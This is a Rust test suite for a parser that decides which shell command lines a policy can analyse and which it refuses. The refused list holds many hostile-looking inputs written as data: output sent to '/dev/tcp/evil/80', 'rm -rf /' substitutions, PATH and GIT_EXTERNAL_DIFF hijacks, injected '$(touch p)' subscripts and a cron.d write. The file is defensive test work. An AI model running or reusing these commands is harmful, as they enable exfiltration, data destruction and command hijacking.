//! Which command lines are read, and that every one that shells read in ways of their own is refused.
#![expect(clippy::unwrap_used, reason = "tests")]

use countersign_policy::foreign::{commands, writes};

/// Lines that are read, with the programs that they run.
const READ: &[(&str, &str)] = &[
    ("", ""),
    (" \n\t\n", ""),
    ("ls -la /tmp", "ls"),
    ("a\tb", "a"),
    ("cat a | grep b | wc -l", "cat grep wc"),
    ("make && make install || echo no", "make echo"),
    ("a; b\n\n\nc;\nd", "a b c d"),
    ("a |\n b &&\n\n c", "a b c"),
    ("a &", "a"),
    ("a & \n", "a"),
    ("echo '\u{440} \u{2028}' \"日本\"", "echo"),
    ("/bin/rm a", "/bin/rm rm"),
    ("./x/../git status", "./x/../git git"),
    ("\\rm a", "rm"),
    ("'r'm a", "rm"),
    ("r\"m\" a", "rm"),
    ("g++ a", "g++"),
    ("ls $x ${y}/z \"$HOME/a b\" '$(rm)' a\\;b", "ls"),
    ("ls *.rs a?[b-c] ~/x HEAD~1 a=b --c=d", "ls"),
    ("ls 'a!' 'a\nb; rm c'", "ls"),
    ("ls \"a\\|b\\.c\\\"d\\$x\\`\"", "ls"),
    ("echo \"\\$(rm b)\"", "echo"),
    ("echo if then case done in", "echo"),
    ("ls > a 2> b >> c 2>> d < e 2>&1 1>&2 >&2", "ls"),
    ("ls >a <b", "ls"),
    ("ls 2>&1&& rm", "ls rm"),
    // Words of the shell itself.
    (
        "cd /x && pwd && pushd y && popd && true || false",
        "cd pwd pushd popd true false",
    ),
    ("set -e; set -euo pipefail; ls", "set ls"),
    ("ls || exit 1", "ls exit"),
    ("exit", "exit"),
    ("kill -9 123", "kill"),
    ("printf '%s\\n' a \"$x\"; printf 'a%%d%bc'", "printf"),
    ("command -v rm", "command"),
    ("which rm; type ls", "which type"),
    // Programs that run others.
    ("sudo rm a", "sudo rm"),
    ("env; env rm a", "env rm"),
    ("nohup rm a &", "nohup rm"),
    ("time rm a", "time rm"),
    ("timeout 5m sudo rm a", "timeout sudo rm"),
    ("ls | xargs rm", "ls xargs rm"),
    ("ls | xargs -0 -r -n 1 rm -f $x", "ls xargs rm"),
    ("sh -c 'ls; rm a'", "sh ls rm"),
    ("bash -lc \"cd x && rm a\"", "bash cd rm"),
    ("sh -c 'sh -c \"rm a\"'", "sh rm"),
    ("SH -c ls", "SH ls"),
    ("find . -name '*.o' -type f -mtime -1", "find"),
    ("python3 -c 'import os'", "python3"),
];

/// Lines that are not.
#[rustfmt::skip]
const REFUSED: &[&str] = &[
    // Signs, and what stands between commands.
    "a & b", "a &&& b", "a |& b", "a || | b", "a |", "a &&", "; a", "a ; ; b", "a ;; b", "a &;",
    "a \\\n b", "r\\\nm a", "r\rm a", "ls\r\nrm a", "ls '\u{7}'", "ls '\u{85}'", "rm\u{a0}-rf", "\u{440}m a",
    "'\u{440}m' a", "echo \u{440}", "echo \"日\\\"\" ; rm \"", "echo \"日本!\"",
    // Names.
    "'' a", "'a b' c", "$cmd a", "\"$cmd\" a", "r${x}m a", "/bin/r? a", "~/bin/tool x", "- rm a", "% a", ": a",
    "=rm a", "$'rm' a", "$'r\\x6d' a", "x=rm; $x a", "ls/ a",
    // Words.
    "ls =rm", "{rm,-rf,/}", "ls {a,b}", "ls {}", "ls ~root", "ls HEAD^", "ls a#b", "ls # rm", "# rm", "! ls",
    "ls \"a!\"", "ls *(e:'rm a':)", "ls \"a\\!b\"", "ls \"a\\", "ls 'a", "ls \"a", "ls \\", "ls \\ a", "ls )",
    "echo $'a\\'; rm b'", "echo $\"a\"", "echo $", "echo \"a$\"", "echo $1", "echo $?", "echo \"$@\"", "echo $@[x]",
    "echo $x[a]", "echo \"${x}[a]\"", "echo $x:F:y:h", "echo ${x:-a}", "echo ${x@P}", "echo ${!x}", "echo ${#x}",
    "echo ${a[$(rm b)]}", "echo ${x", "echo $(rm -rf /)", "echo \"a $(rm b) c\"", "echo `rm b`", "echo \"`rm b`\"",
    "echo $((1 + 2))", "echo $[1]", "echo \\$(rm b)", "echo \"$\\\n(touch p)\"", "echo (\\\n(x))", "echo $\\\n((x))",
    // Assignments.
    "A=b", "A=b ls", "A+=b ls", "a[1]=b ls", "PATH=/tmp/evil git status", "OPTIND='a[$(touch p)]'",
    "OPTIND='a[$(touch p)]' ls", "RANDOM='a[$(touch p)]'", "COLUMNS='a[$(touch p)]'", "NULLCMD=/evil; > x",
    "READNULLCMD=/evil; < x", "MODULE_PATH=/evil ls", "GIT_EXTERNAL_DIFF=./x git diff", "RUSTC_WRAPPER=./x cargo build",
    "HOME=/tmp/evil bash -lc ls", "LESSOPEN='|x' less a",
    // Structure.
    "(rm y)", "{ rm a; }", "{ echo } always { touch p }", "if [[ -z a ]] { echo } else { touch p }",
    "if true; then\\\n touch p; fi", "if true; then rm; fi", "'if' true", "for f in a; do rm $f; done",
    "for OPTIND in 'a[$(touch p)]'; do x; done", "foreach f", "while true; do rm; done", "case a in a) rm;; esac",
    "echo \"$(case esacls in esacls) touch p; esac)\"", "echo $(ls # )\ntouch p)", "[[ a || touch p ]]",
    "[ \"-$o\" \"$y\" ]", "[[ -t x ]]", "[ -f a ]", "test -f a", "((x = 1))", "(\\\n(x))", "ls() { rm; }; ls", "f() rm a",
    "function f { rm; }", "coproc ls", "repeat 3 ls",
    // Redirections.
    "ls>a", "> a", "> a ls", "2> a", "ls 3> a", "ls 12> a", "ls 2< a", "ls 1> a", "ls a2> b", "ls {fd}> b", "ls >| a",
    "ls >! a", ">! ls touch p", "ls <> a", "ls >", "ls > ''", "ls > $x", "ls > a*", "ls > ~/a", "ls > /dev/tcp/evil/80",
    "ls < /dev/tcp/evil/80", "ls 2>&10", "ls 2>&1x", "ls >&a", "<&-touch ls p", ">&-touch ls p", "ls >&-", "ls &> a",
    "echo hi &>/dev/null touch p", "ls &>> a", "diff <(rm a) b", "ls >(rm a)", "ls <1-9>",
    "cat <<EOF\n$(rm a)\nEOF\nls", "cat <<E\\\nOF\nx\nEOF\ntouch p", "echo $(cat <<EOF\nx\nEOF )\ntouch p\n)",
    "bash <<'EOF'\nexec < ev\nEOF", "bash <<< 'rm a'",
    // Words of the shell itself.
    "set -A path /evil", "set -k", "set -o histexpand", "set -- a", "set -e -- a", "set", "exit 'y[$(touch p)]'",
    "exit $x", "shift 'y[$(touch p)]'", "return 'y[$(touch p)]'", "kill -TERM 123", "printf '%d' 'x[$(touch p)]'",
    "printf '%%%d' 'x[$(touch p)]'", "printf '%*s' 'x[$(touch p)]' a", "printf '-va[$(touch p)]' 1",
    "printf -vPATH /evil; ls", "printf -- '%s'", "printf $x", "printf", "command rm", "command -v -p", "which -x rm",
    "type $x", "eval 'rm a'", ". ./x", "source git", "exec rm a", "exec 2> a", "trap 'rm a' EXIT", "alias ls=rm",
    "export PATH=/tmp:$PATH; ls", "declare -n r=PATH", "declare -a x='($(touch p))'",
    "declare -A 'BASH_CMDS=([ls]=/evil/ls)'", "typeset -n r=PATH", "local x", "readonly x", "unset x", "read OPTIND",
    "read PATH < f", "getopts a OPTIND", "let x", "integer x='a[$(touch p)]'", "jobs -x touch p", "wait \"$x\"",
    "hash -p /evil ls", "enable -n ls", "builtin eval rm", "emulate sh -c 'rm a'", "zmodload zsh/system", "autoload ls",
    "complete -C rm ls", "fc -s", "umask 'x[1]'", "noglob rm", "EVAL 'rm a'", "setopt extendedglob", "shopt -s extglob",
    // Programs that run others.
    "sudo -u root rm a", "sudo FOO=1 rm a", "sudo $x", "sudo", "env FOO=1 rm a", "env -S 'rm a'", "env -i rm a",
    "nohup $x", "time -p rm a", "/usr/bin/time -f x rm a", "time if x", "time", "timeout -k 1 5 rm a",
    "timeout $t rm a", "timeout", "timeout 5", "ls | xargs", "ls | xargs sh", "ls | xargs sh -c 'rm'", "ls | xargs env",
    "ls | xargs find", "ls | xargs printf", "ls | xargs /bin/sh", "ls | xargs -I{} rm {}", "ls | xargs -I cp cp a b",
    "xargs --max-lines touch ls", "xargs -n $x rm", "sh -c '(rm)'", "sh -c \"rm $x\"", "sh -c 'rm' a", "sh -ec 'rm a'",
    "bash -coo vi vi 'touch p'", "bash ls", "bash ./build.sh", "bash", "echo rm a | sh", "bash < f", "ksh -c ls",
    "find . -name *.o", "find $d -name x", "find . -delete", "find . -exec rm a", "find . -execdir rm a",
    "find . \\-exec rm a", "find . -ok rm a", "find . -fprintf a b", "x=ec; find . -ex\"$x\" touch p \\;",
    "find . -ex\"$x\" touch p \\;", "find . -exec rm {} \\;", "nice rm a", "ssh host rm a", "parallel rm", "su -c 'rm a'",
    "busybox rm a",
];

#[test]
fn every_program_that_a_line_names_is_found() {
    for (line, wanted) in READ {
        let found = commands(line).unwrap_or_else(|why| panic!("{line:?} is refused: {why}"));
        assert_eq!(found.join(" "), *wanted, "{line:?}");
    }
}

#[test]
fn a_line_that_is_not_among_those_that_are_read_is_refused() {
    for line in REFUSED {
        assert!(commands(line).is_err(), "{line:?}: {:?}", commands(line));
        assert!(writes(line).is_err(), "{line:?}");
        let within = format!("sh -c '{}'", line.replace('\'', "'\\''"));
        assert!(commands(&within).is_err(), "{within:?}");
    }
}

#[test]
fn files_that_a_line_writes_by_redirection_are_found_or_the_line_is_refused() {
    let lines = [
        ("ls", ""),
        ("ls > a 2>> 'b c' 2> d >> \"e\"", "a|b c|d|e"),
        ("ls 2>&1 >&2 < in", ""),
        ("sh -c 'ls > a' > b", "b|a"),
        ("cd / && echo x > etc/cron.d/y", "?"),
        ("echo x > y; cd /", "?"),
        ("sh -c 'cd /' && echo x > y", "?"),
        ("CD / ; echo x > y", "?"),
        ("pushd / ; echo x > y", "?"),
        ("popd && echo x 2> y", "?"),
        ("cd / && echo x > /tmp/y", "/tmp/y"),
    ];
    for (line, wanted) in lines {
        let found = writes(line);
        match wanted {
            "?" => assert!(found.is_err(), "{line:?}: {found:?}"),
            wanted => assert_eq!(found.unwrap().join("|"), wanted, "{line:?}"),
        }
    }
}
